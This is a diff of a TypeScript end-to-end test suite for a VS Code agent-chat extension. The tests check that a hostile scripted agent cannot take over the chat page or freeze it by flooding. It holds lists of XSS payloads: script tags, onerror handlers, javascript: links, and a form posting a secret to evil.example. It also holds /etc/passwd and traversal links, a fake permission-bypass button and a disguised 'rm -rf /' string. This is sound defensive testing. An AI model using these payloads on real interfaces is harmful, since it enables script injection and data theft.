@@ -11,19 +11,55 @@ const RUN = "window.hacked=(window.hacked||0)+1";
 const ELSEWHERE = "https://evil.example";
 
 const HTML = [
-  `<script>${RUN}</script>`, `<script src="${ELSEWHERE}/x.js"></script>`, `<img src="${ELSEWHERE}/x.png" onerror="${RUN}">`, `<img src=x onerror=${RUN}>`, `<svg onload="${RUN}"><script>${RUN}</script></svg>`,
-  `<iframe src="${ELSEWHERE}" srcdoc="<script>parent.${RUN}</script>"></iframe>`, `<form action="${ELSEWHERE}"><input name="secret" autofocus onfocus="${RUN}"><button>Send</button></form>`,
-  `<style>#symposium { display: none !important } .mynah-chat-item-card { visibility: hidden }</style>`, `<link rel="stylesheet" href="${ELSEWHERE}/x.css">`, `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}">`, `<base href="${ELSEWHERE}/">`,
-  `<div style="position:fixed;inset:0;z-index:99999;background:red">overlay</div>`, `<object data="javascript:${RUN}"></object>`, `<embed src="javascript:${RUN}">`, `<details open ontoggle="${RUN}"><summary>s</summary></details>`,
-  `<video src="${ELSEWHERE}/v" onerror="${RUN}" autoplay></video>`, `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>`, `<a href="javascript:${RUN}" onmouseover="${RUN}">html link</a>`,
-  `<button action-id="bypass" class="mynah-button" onclick="${RUN}">Bypass permissions for this agent</button>`, `&lt;img src=x onerror="${RUN}"&gt;`, `&#60;img src=x onerror="${RUN}"&#62;`, `"><img src=x onerror="${RUN}">`, `--></style></script></textarea><img src=x onerror="${RUN}">`,
+  `<script>${RUN}</script>`,
+  `<script src="${ELSEWHERE}/x.js"></script>`,
+  `<img src="${ELSEWHERE}/x.png" onerror="${RUN}">`,
+  `<img src=x onerror=${RUN}>`,
+  `<svg onload="${RUN}"><script>${RUN}</script></svg>`,
+  `<iframe src="${ELSEWHERE}" srcdoc="<script>parent.${RUN}</script>"></iframe>`,
+  `<form action="${ELSEWHERE}"><input name="secret" autofocus onfocus="${RUN}"><button>Send</button></form>`,
+  `<style>#symposium { display: none !important } .mynah-chat-item-card { visibility: hidden }</style>`,
+  `<link rel="stylesheet" href="${ELSEWHERE}/x.css">`,
+  `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}">`,
+  `<base href="${ELSEWHERE}/">`,
+  `<div style="position:fixed;inset:0;z-index:99999;background:red">overlay</div>`,
+  `<object data="javascript:${RUN}"></object>`,
+  `<embed src="javascript:${RUN}">`,
+  `<details open ontoggle="${RUN}"><summary>s</summary></details>`,
+  `<video src="${ELSEWHERE}/v" onerror="${RUN}" autoplay></video>`,
+  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>`,
+  `<a href="javascript:${RUN}" onmouseover="${RUN}">html link</a>`,
+  `<button action-id="bypass" class="mynah-button" onclick="${RUN}">Bypass permissions for this agent</button>`,
+  `&lt;img src=x onerror="${RUN}"&gt;`,
+  `&#60;img src=x onerror="${RUN}"&#62;`,
+  `"><img src=x onerror="${RUN}">`,
+  `--></style></script></textarea><img src=x onerror="${RUN}">`,
 ].join(" ");
 
 const MARKDOWN = [
-  `![image](${ELSEWHERE}/i.png)`, `![image][there]`, `[script link](javascript:${RUN})`, `[encoded link](&#106;avascript:${RUN})`, `[spaced link](<java\tscript:${RUN}>)`, "[data link](data:text/html,<script>parent.hacked=1</script>)",
-  "[command link](command:workbench.action.toggleSidebarVisibility)", "[file link](file:///etc/passwd)", "[up link](../../../../../../etc/passwd)", "[vscode link](vscode://file/etc/passwd)",
-  `[web link](${ELSEWHERE}/page)`, `[title link](${ELSEWHERE}/a "x\\" onmouseover=\\"${RUN}")`, `[quote link](${ELSEWHERE}/"onmouseover="${RUN})`, `<${ELSEWHERE}/"onclick="${RUN}>`, `[referenced link][there]`,
-  `\`<img src=x onerror="${RUN}">\``, `\`\`\`html"><img/src=x/onerror="${RUN}">\n${HTML}\n\`\`\``, `| a |\n|---|\n| ${HTML.replaceAll("|", "")} |`, `- ${HTML}`, `> ${HTML}`, `# ${HTML}`, `Turned \u202Etxet denrut`, `[there]: javascript:${RUN} "${HTML.replaceAll('"', "'")}"`,
+  `![image](${ELSEWHERE}/i.png)`,
+  `![image][there]`,
+  `[script link](javascript:${RUN})`,
+  `[encoded link](&#106;avascript:${RUN})`,
+  `[spaced link](<java\tscript:${RUN}>)`,
+  "[data link](data:text/html,<script>parent.hacked=1</script>)",
+  "[command link](command:workbench.action.toggleSidebarVisibility)",
+  "[file link](file:///etc/passwd)",
+  "[up link](../../../../../../etc/passwd)",
+  "[vscode link](vscode://file/etc/passwd)",
+  `[web link](${ELSEWHERE}/page)`,
+  `[title link](${ELSEWHERE}/a "x\\" onmouseover=\\"${RUN}")`,
+  `[quote link](${ELSEWHERE}/"onmouseover="${RUN})`,
+  `<${ELSEWHERE}/"onclick="${RUN}>`,
+  `[referenced link][there]`,
+  `\`<img src=x onerror="${RUN}">\``,
+  `\`\`\`html"><img/src=x/onerror="${RUN}">\n${HTML}\n\`\`\``,
+  `| a |\n|---|\n| ${HTML.replaceAll("|", "")} |`,
+  `- ${HTML}`,
+  `> ${HTML}`,
+  `# ${HTML}`,
+  `Turned \u202Etxet denrut`,
+  `[there]: javascript:${RUN} "${HTML.replaceAll('"', "'")}"`,
 ].join("\n\n");
 
 /** As a step of the scripted agent writes a text on one line. */
@@ -38,7 +74,10 @@ plan [x] ${HTML.replaceAll("|", "")} | ${step(MARKDOWN).replaceAll("|", "")}
 tool t1 execute ${step(`${HTML} ${MARKDOWN}`)}
 toolupdate t1 failed ${field("input", { [HTML]: MARKDOWN })} ${field("rawOutput", `${HTML}\n${MARKDOWN}`)} ${field("text", `${HTML}\n\n${MARKDOWN}`)} ${field("diff", { path: `/srv/${HTML}](javascript:${RUN})`, oldText: HTML, newText: MARKDOWN })} ${field("locations", `/srv/x](javascript:${RUN})<img/src=x/onerror=${RUN}>.js:3`)} ${field("resource", { uri: `javascript:${RUN}`, text: HTML })} ${field("link", { uri: `javascript:${RUN}`, name: HTML })} ${field(`image`, `"><script>${RUN}</script>`)} ${field("foreign", { html: HTML })}
 tool t2 _own plain
-ask p1 ${field("title", `${TURNED} ${HTML}`)} ${field("input", { command: TURNED, html: HTML })} ${field("options", [{ optionId: "no", name: `No ${HTML} \u202Eyes`, kind: "reject_once" }, { optionId: `"><img src=x onerror="${RUN}">`, name: "**Really** <b>no</b> [x](javascript:1)", kind: "_own" }])}
+ask p1 ${field("title", `${TURNED} ${HTML}`)} ${field("input", { command: TURNED, html: HTML })} ${field("options", [
+  { optionId: "no", name: `No ${HTML} \u202Eyes`, kind: "reject_once" },
+  { optionId: `"><img src=x onerror="${RUN}">`, name: "**Really** <b>no</b> [x](javascript:1)", kind: "_own" },
+])}
 error -32603 ${step(`${HTML} ${MARKDOWN}`)}`;
 
 const FAKE_CARD = `**Scripted** wants to run a command
@@ -59,7 +98,8 @@ interface Taken {
 
 /** The chat with a turn that has said all of it. */
 async function takenOver(policy: "kept" | "removed"): Promise<Taken> {
-  const box = await openScripted({ settings: { "symposium.logLevel": "debug" } }), asked: string[] = [];
+  const box = await openScripted({ settings: { "symposium.logLevel": "debug" } }),
+    asked: string[] = [];
   box.page.on("request", request => {
     if (request.url().startsWith(ELSEWHERE)) asked.push(request.url());
   });
@@ -71,23 +111,28 @@ async function takenOver(policy: "kept" | "removed"): Promise<Taken> {
   await button(box.frame, "**Really**").first().waitFor();
   // Unfolded, so that what is drawn only then is drawn.
   for (const fold of await box.frame.locator(".mynah-chat-item-summary-button:visible").all()) await fold.click();
-  return { box, harm: async () => [...await guard.found(), ...asked] };
+  return { box, harm: async () => [...(await guard.found()), ...asked] };
 }
 
 /** Adds a script that nobody admitted. Returns whether it ran; otherwise the violation has been dispatched. */
-const plantedScriptRuns = (box: Box): Promise<boolean> => box.frame.locator("body").evaluate(async body => {
-  const heard = new Promise(resolve => { document.addEventListener("securitypolicyviolation", resolve, { once: true }); });
-  const script = document.createElement("script");
-  script.textContent = "window.planted = true";
-  body.append(script);
-  if (!("planted" in window)) await heard;
-  script.remove();
-  return "planted" in window;
-});
+const plantedScriptRuns = (box: Box): Promise<boolean> =>
+  box.frame.locator("body").evaluate(async body => {
+    const heard = new Promise(resolve => {
+      document.addEventListener("securitypolicyviolation", resolve, { once: true });
+    });
+    const script = document.createElement("script");
+    script.textContent = "window.planted = true";
+    body.append(script);
+    if (!("planted" in window)) await heard;
+    script.remove();
+    return "planted" in window;
+  });
 
 suite("an agent that wants to take the page over, without the content security policy", () => {
   let box: Box, harm: Taken["harm"];
-  suiteSetup(async () => { ({ box, harm } = await takenOver("removed")); });
+  suiteSetup(async () => {
+    ({ box, harm } = await takenOver("removed"));
+  });
   suiteTeardown(() => box.close());
 
   test("the renderer alone lets nothing run, and makes no handler and no dangerous address, not for a moment", async () => {
@@ -114,7 +159,9 @@ suite("an agent that wants to take the page over, without the content security p
 
 suite("an agent that wants to take the page over", () => {
   let box: Box, harm: Taken["harm"];
-  suiteSetup(async () => { ({ box, harm } = await takenOver("kept")); });
+  suiteSetup(async () => {
+    ({ box, harm } = await takenOver("kept"));
+  });
   suiteTeardown(() => box.close());
 
   test("nothing of what it says runs, loads or is even tried, in any part of any card", async () => {
@@ -126,9 +173,22 @@ suite("an agent that wants to take the page over", () => {
     const found = await box.frame.locator("#symposium").evaluate(root => {
       const cards = [...root.querySelectorAll(".mynah-chat-items-container *")];
       return [
-        ...cards.filter(element => element.matches("script, img, svg, math, iframe, frame, form, input, textarea, select, style, link, meta, base, object, embed, video, audio, details, dialog, [srcdoc], [formaction]")),
-        ...cards.filter(element => element.matches("button") && !element.matches(".mynah-button.mynah-ui-clickable-item")),
-        ...[...root.querySelectorAll("*")].filter(element => [...element.attributes].some(({ name, value }) => /^on/i.test(name) || /hacked/.test(value) && !["href", "title", "placeholder", "class", "action-id", "messageid"].includes(name))),
+        ...cards.filter(element =>
+          element.matches(
+            "script, img, svg, math, iframe, frame, form, input, textarea, select, style, link, meta, base, object, embed, video, audio, details, dialog, [srcdoc], [formaction]",
+          ),
+        ),
+        ...cards.filter(
+          element => element.matches("button") && !element.matches(".mynah-button.mynah-ui-clickable-item"),
+        ),
+        ...[...root.querySelectorAll("*")].filter(element =>
+          [...element.attributes].some(
+            ({ name, value }) =>
+              /^on/i.test(name) ||
+              (/hacked/.test(value) &&
+                !["href", "title", "placeholder", "class", "action-id", "messageid"].includes(name)),
+          ),
+        ),
         ...cards.filter(element => getComputedStyle(element).position === "fixed"),
       ].map(element => element.outerHTML.slice(0, 200));
     });
@@ -137,7 +197,13 @@ suite("an agent that wants to take the page over", () => {
 
   test("what it says is shown as it was said: in titles, options, names of files and the tab", async () => {
     const shown = (await box.frame.locator(".mynah-chat-wrapper:visible [data-kind]").allInnerTexts()).join("\n");
-    for (const text of [`<img src=x onerror=${RUN}>`, "No <script>", "**Really** <b>no</b> [x](javascript:1)", "rm -rf / ⟦U+202E⟧txt."]) assert.ok(shown.includes(text), `“${text}” is not in ${shown.slice(-3000)}`);
+    for (const text of [
+      `<img src=x onerror=${RUN}>`,
+      "No <script>",
+      "**Really** <b>no</b> [x](javascript:1)",
+      "rm -rf / ⟦U+202E⟧txt.",
+    ])
+      assert.ok(shown.includes(text), `“${text}” is not in ${shown.slice(-3000)}`);
     assert.ok((await box.frame.locator(".mynah-tab-item-label").first().innerText()).includes("<script>"));
     const [answer = ""] = await box.frame.locator(".mynah-chat-wrapper:visible [data-kind=answer]").allInnerTexts();
     assert.ok(answer.includes("<form action="));
@@ -155,7 +221,7 @@ suite("an agent that wants to take the page over", () => {
     const links = box.frame.locator(".mynah-chat-wrapper:visible [data-kind=answer] a:visible");
     const dangerous: string[] = [];
     for (const link of await links.all()) {
-      const href = await link.getAttribute("href") ?? "";
+      const href = (await link.getAttribute("href")) ?? "";
       if (/^https?:/.test(href)) continue;
       dangerous.push(href);
       await link.click();
@@ -163,8 +229,16 @@ suite("an agent that wants to take the page over", () => {
       await link.focus();
       await box.page.keyboard.press("Enter");
     }
-    for (const kind of ["file:", "../"]) assert.ok(dangerous.some(href => href.startsWith(kind)), `no link ${kind} among ${dangerous.join(" ")}`);
-    assert.deepEqual(dangerous.filter(href => /^\s*(?!file:)[^/?#]*:/i.test(href)), [], "a script or a command is not even a link");
+    for (const kind of ["file:", "../"])
+      assert.ok(
+        dangerous.some(href => href.startsWith(kind)),
+        `no link ${kind} among ${dangerous.join(" ")}`,
+      );
+    assert.deepEqual(
+      dangerous.filter(href => /^\s*(?!file:)[^/?#]*:/i.test(href)),
+      [],
+      "a script or a command is not even a link",
+    );
     await seen(async () => readLog(box).includes("outside the workspace"), "the line in the log");
     assert.deepEqual(await harm(), []);
     assert.equal(box.page.context().pages().length, 1);
@@ -173,7 +247,10 @@ suite("an agent that wants to take the page over", () => {
   });
 
   test("a link to the web asks first, in VS Code's own dialog", async () => {
-    await box.frame.locator(".mynah-chat-wrapper:visible [data-kind=answer] a:visible", { hasText: "web link" }).first().click();
+    await box.frame
+      .locator(".mynah-chat-wrapper:visible [data-kind=answer] a:visible", { hasText: "web link" })
+      .first()
+      .click();
     const dialog = box.page.locator(".monaco-dialog-box:visible");
     await dialog.waitFor();
     assert.match(await dialog.innerText(), /evil\.example/);
@@ -193,9 +270,14 @@ suite("an agent that wants to take the page over", () => {
     await sendPrompt(box.frame, `say ${step(FAKE_CARD)}`);
     await showsText(box.frame, "Remove the build folder");
     await turnEnded(box.frame);
-    const card = box.frame.locator(".mynah-chat-wrapper:visible [data-kind=answer]", { hasText: "Remove the build folder" }).last();
+    const card = box.frame
+      .locator(".mynah-chat-wrapper:visible [data-kind=answer]", { hasText: "Remove the build folder" })
+      .last();
     assert.equal(await card.locator("[action-id], form, input").count(), 0);
-    assert.deepEqual((await card.locator("button:visible").allInnerTexts()).map(label => label.trim()), ["Copy"]);
+    assert.deepEqual(
+      (await card.locator("button:visible").allInnerTexts()).map(label => label.trim()),
+      ["Copy"],
+    );
     const before = await box.frame.locator(".mynah-chat-wrapper:visible [data-kind]").count();
     assert.equal(await card.locator("a[href^='command:']").count(), 0);
     for (const link of await card.locator("a:visible").all()) await link.click();
@@ -210,9 +292,16 @@ suite("an agent that wants to take the page over", () => {
   });
 
   test("an output of 50,000 characters is cut in its card, which says by how much", async () => {
-    await sendPrompt(box.frame, `tool long execute Long\ntoolupdate long completed rawOutput=${"x".repeat(50_000)}\ntool lines execute Lines\ntoolupdate lines completed ${field("rawOutput", "a line of 25 characters.\n".repeat(2_000))}\nsay DONE`);
+    await sendPrompt(
+      box.frame,
+      `tool long execute Long\ntoolupdate long completed rawOutput=${"x".repeat(50_000)}\ntool lines execute Lines\ntoolupdate lines completed ${field("rawOutput", "a line of 25 characters.\n".repeat(2_000))}\nsay DONE`,
+    );
     await turnEnded(box.frame);
-    const textOf = async (title: string): Promise<string> => (await box.frame.locator(".mynah-chat-wrapper:visible [data-kind=tool]", { hasText: title }).last().textContent()) ?? "";
+    const textOf = async (title: string): Promise<string> =>
+      (await box.frame
+        .locator(".mynah-chat-wrapper:visible [data-kind=tool]", { hasText: title })
+        .last()
+        .textContent()) ?? "";
     const [long, lines] = [await textOf("Long"), await textOf("Lines")];
     assert.match(long, /34000 more characters are not shown/);
     assert.ok(long.length < 17_000 && long.length > 16_000, String(long.length));
@@ -229,7 +318,8 @@ const FLOODS: readonly (readonly [what: string, script: string, told: string | R
   ["one message of 50 MB", "big 50 MB", /sends more in this turn than can be kept|larger than|too long|too large/],
 ];
 /** A machine that runs all of VS Code beside the flood is slow, and now and then holds a key up; frozen is something else. */
-const SOON_MS = 1_000, FROZEN_MS = 10_000;
+const SOON_MS = 1_000,
+  FROZEN_MS = 10_000;
 
 suite("an agent that floods", () => {
   let box: Box;
@@ -241,33 +331,42 @@ suite("an agent that floods", () => {
   });
   suiteTeardown(() => box.close());
 
-  for (const [what, script, told] of FLOODS) test(`${what}: a key in another tab is on screen soon, the user is told, and the agent can be stopped`, async function () {
-    this.timeout(timeLimit(300_000));
-    await newTab(box);
-    const flooded = await selectedTab(box);
-    await (await promptInput(box.frame)).fill(script);
-    await box.frame.locator(".mynah-chat-prompt-button:visible").click();
-    await selectTab(box, quiet);
-    const times = await typedKeys(box, "still here");
-    const half = times.toSorted((a, b) => a - b)[times.length >> 1] ?? Infinity;
-    assert.ok(half < SOON_MS && Math.max(...times) < FROZEN_MS, `${what}: ${times.map(Math.round).join(" ")} ms`);
-    await selectTab(box, flooded);
-    await seen(async () => typeof told === "string" ? (await shownText(box.frame)).includes(told) : told.test(await shownText(box.frame)), `the end of ${what}`, 90_000);
-    await stopTurn(box.frame);
-    await (await promptInput(box.frame)).fill("say STILL-ALIVE");
-    await box.frame.locator(".mynah-chat-prompt-button:visible").click();
-    await showsText(box.frame, /^STILL-ALIVE$/m);
-  });
+  for (const [what, script, told] of FLOODS)
+    test(`${what}: a key in another tab is on screen soon, the user is told, and the agent can be stopped`, async function () {
+      this.timeout(timeLimit(300_000));
+      await newTab(box);
+      const flooded = await selectedTab(box);
+      await (await promptInput(box.frame)).fill(script);
+      await box.frame.locator(".mynah-chat-prompt-button:visible").click();
+      await selectTab(box, quiet);
+      const times = await typedKeys(box, "still here");
+      const half = times.toSorted((a, b) => a - b)[times.length >> 1] ?? Infinity;
+      assert.ok(half < SOON_MS && Math.max(...times) < FROZEN_MS, `${what}: ${times.map(Math.round).join(" ")} ms`);
+      await selectTab(box, flooded);
+      await seen(
+        async () =>
+          typeof told === "string"
+            ? (await shownText(box.frame)).includes(told)
+            : told.test(await shownText(box.frame)),
+        `the end of ${what}`,
+        90_000,
+      );
+      await stopTurn(box.frame);
+      await (await promptInput(box.frame)).fill("say STILL-ALIVE");
+      await box.frame.locator(".mynah-chat-prompt-button:visible").click();
+      await showsText(box.frame, /^STILL-ALIVE$/m);
+    });
 });
 
-const selectedTab = async (box: Box): Promise<string> => await box.frame.locator("body").getAttribute("data-tab") ?? "";
+const selectedTab = async (box: Box): Promise<string> =>
+  (await box.frame.locator("body").getAttribute("data-tab")) ?? "";
 
 /** Tab by tab, until it is this one. */
 async function selectTab(box: Box, tabId: string): Promise<void> {
   await seen(async () => {
     for (const label of await box.frame.locator(".mynah-tab-item-label").all()) {
       await label.click();
-      if (await selectedTab(box) === tabId) return true;
+      if ((await selectedTab(box)) === tabId) return true;
     }
     return false;
   }, "that tab");
@@ -275,20 +374,32 @@ async function selectTab(box: Box, tabId: string): Promise<void> {
 
 /** Milliseconds from each key to the frame that shows it. */
 async function typedKeys(box: Box, text: string): Promise<readonly number[]> {
-  const body = box.frame.locator("body"), input = await promptInput(box.frame);
+  const body = box.frame.locator("body"),
+    input = await promptInput(box.frame);
   await input.fill("");
   await input.click();
   await body.evaluate(() => {
-    const times: number[] = [], before = "keyTimes" in window;
+    const times: number[] = [],
+      before = "keyTimes" in window;
     Object.assign(window, { keyTimes: times });
     if (before) return;
-    addEventListener("keydown", ({ timeStamp }) => {
-      requestAnimationFrame(() => requestAnimationFrame(() => { if ("keyTimes" in window && Array.isArray(window.keyTimes)) window.keyTimes.push(performance.now() - timeStamp); }));
-    }, true);
+    addEventListener(
+      "keydown",
+      ({ timeStamp }) => {
+        requestAnimationFrame(() =>
+          requestAnimationFrame(() => {
+            if ("keyTimes" in window && Array.isArray(window.keyTimes))
+              window.keyTimes.push(performance.now() - timeStamp);
+          }),
+        );
+      },
+      true,
+    );
   });
   await input.pressSequentially(text, { delay: 100 });
   await becomes(() => input.innerText(), text, "what was typed");
-  const times = () => body.evaluate(() => "keyTimes" in window && Array.isArray(window.keyTimes) ? window.keyTimes.map(Number) : []);
+  const times = () =>
+    body.evaluate(() => ("keyTimes" in window && Array.isArray(window.keyTimes) ? window.keyTimes.map(Number) : []));
   await becomes(async () => (await times()).length, text.length, "the frame after the last key");
   return times();
 }
